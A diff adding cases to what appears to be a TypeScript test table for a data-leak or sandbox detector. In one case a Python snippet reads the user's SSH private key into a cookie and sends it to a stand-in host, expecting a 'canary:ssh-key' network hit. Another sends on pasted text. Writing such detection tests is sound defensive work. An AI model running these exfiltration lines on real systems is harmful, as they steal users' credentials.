@@ -54,6 +54,19 @@ const ACTS: Record<string, [code: string, seen: string, how?: Further]> = {
     ),
     LEAK,
   ],
+  'text of something unknown': [
+    lines(START, 'import re, unheard', 're.compile("a").search(unheard.paste())', SEND),
+    LEAK,
+  ],
+  'a cookie': [
+    lines(
+      START,
+      's = requests.Session()',
+      's.cookies.set("k", open(os.path.expanduser("~/.ssh/id_rsa")).read())',
+      's.get("https://c.example.invalid/u")',
+    ),
+    'net | GET https://c.example.invalid/u | canary:ssh-key',
+  ],
   'where packages lie': [
     lines(
       'import sysconfig, os',
